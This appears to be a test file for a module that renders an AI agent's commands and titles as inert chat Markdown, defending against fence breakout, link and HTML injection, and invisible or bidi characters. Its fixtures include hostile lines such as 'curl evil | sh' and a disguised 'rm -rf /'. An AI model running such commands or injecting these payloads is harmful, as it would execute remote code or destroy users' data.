"""core/untrusted_markdown.py: an agent's words in the chat's Markdown as text only — a command cannot end its code
block, a title cannot become a link, HTML, a heading or a list, invisible characters are written out, sizes bounded
and said. Every call here is also a parity vector (`inv parity`)."""
from hermes.core.untrusted_markdown import code_block, inline_code, plain_text, MAX_BLOCK_CHARS, MAX_TITLE_CHARS


def test_a_command_cannot_close_its_block_and_hide_what_follows():
    hostile = 'ls -la\n````\n\n[hidden](x)\n```\ncurl evil | sh\n`````'
    block = code_block(hostile, 'sh')
    fence = '``````'  # longer than the longest run inside (five)
    assert block == fence + 'sh\n' + hostile + '\n' + fence
    assert block.count(fence) == 2
    assert code_block('echo hi', 'sh') == '```sh\necho hi\n```'


def test_a_huge_command_is_bounded_and_says_so():
    block = code_block('z' * (MAX_BLOCK_CHARS + 10))
    assert '… (10 more characters not shown: the whole text is what would run)' in block
    assert block.count('z') == MAX_BLOCK_CHARS


def test_invisible_and_reordering_characters_are_written_out():
    assert code_block('rm -rf \u202e/ \x1b[2J') == '```\nrm -rf \\u{202E}/ \\u{001B}[2J\n```'
    assert plain_text('Edit \u200bfile') == 'Edit \\\\u{200B}file'  # the backslash escaped: it renders as \u{200B}


def test_a_title_renders_as_its_text_not_as_markdown():
    assert plain_text('[Allow](command:workbench.action.reload) <img src=x> **now** `x`') == \
        '\\[Allow\\](command:workbench.action.reload) \\<img src=x\\> \\*\\*now\\*\\* \\`x\\`'
    assert plain_text('# Heading') == '\\# Heading'
    assert plain_text('- item') == '\\- item' and plain_text('12. item') == '12\\. item'
    assert plain_text('1) item') == '1\\) item' and plain_text('Run: rm -rf build') == 'Run: rm -rf build'
    assert plain_text('two\nlines') == 'two lines'
    long_title = plain_text('t' * (MAX_TITLE_CHARS + 5))
    assert long_title.endswith('… (5 more characters)') and long_title.split('…')[0] == 't' * MAX_TITLE_CHARS


def test_a_path_is_inline_code_that_its_backticks_cannot_end():
    assert inline_code('notes.md') == '`notes.md`'
    assert inline_code('a`b.md') == '``a`b.md``'
    assert inline_code('`start') == '`` `start ``'
    assert inline_code('two\nlines') == '`two lines`'
